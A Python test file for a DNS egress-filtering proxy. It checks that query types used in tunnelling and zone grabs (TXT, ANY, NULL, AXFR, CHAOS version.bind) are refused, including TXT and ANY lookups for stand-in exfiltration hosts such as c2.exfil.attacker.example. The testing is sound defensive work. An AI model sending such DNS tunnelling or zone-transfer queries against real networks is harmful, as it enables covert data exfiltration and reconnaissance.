# what: DNS query types a tunnel or a zone grab would use (TXT, ANY, NULL, AXFR over UDP and TCP, class CHAOS) for allowed and denied names
# include: dns
# egress: allowed.test *.allowed.test
# expect-denied: t-txt.allowed.test 53 dns dns_type_refused
# expect-denied: t-any.allowed.test 53 dns dns_type_refused
# expect-denied: t-null.allowed.test 53 dns dns_type_refused
# expect-denied: t-axfr.allowed.test 53 dns dns_type_refused
# expect-denied: allowed.test 53 dns dns_type_refused
# expect-denied: c2.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: version.bind 53 dns not_allowlisted
# expect-denied: c3.exfil.attacker.example 53 dns not_allowlisted
# expect-stdout: DONE 8 blocked
import os, random, socket, struct


# Only A and AAAA of class IN are ever resolved. Other types for allowed
# names are REFUSED without an upstream query (dns_type_refused); for any
# other name the allow list is asked first, so it is NXDOMAIN and
# not_allowlisted whatever the type. Every name is distinct: no event here
# depends on proxyd's dedupe window.
TXT, NULL, AXFR, ANY, CH = 16, 10, 252, 255, 3
CASES = [
    ("TXT for an allowed name", "t-txt.allowed.test", TXT, False, 1, 5),
    ("ANY for an allowed name", "t-any.allowed.test", ANY, False, 1, 5),
    ("NULL for an allowed name", "t-null.allowed.test", NULL, False, 1, 5),
    ("AXFR over UDP", "t-axfr.allowed.test", AXFR, False, 1, 5),
    ("AXFR over TCP, the real way", "allowed.test", AXFR, True, 1, 5),
    ("TXT for the attacker's name", "c2.exfil.attacker.example", TXT, False, 1, 3),
    ("CHAOS TXT version.bind", "version.bind", TXT, False, CH, 3),
    ("ANY over TCP for the attacker's name", "c3.exfil.attacker.example", ANY, True, 1, 3),
]
blocked = 0
for what, name, qtype, tcp, qclass, want in CASES:
    try:
        rcode, an = dns_query(name, qtype, tcp=tcp, qclass=qclass)
    except OSError as e:
        print("LEAK? no answer to", what, e)
        continue
    if rcode == want and an == 0:
        blocked += 1
        print("BLOCKED", what, "rcode", rcode)
    else:
        print("LEAK", what, "rcode", rcode, "answers", an)
print("DONE", blocked, "blocked")
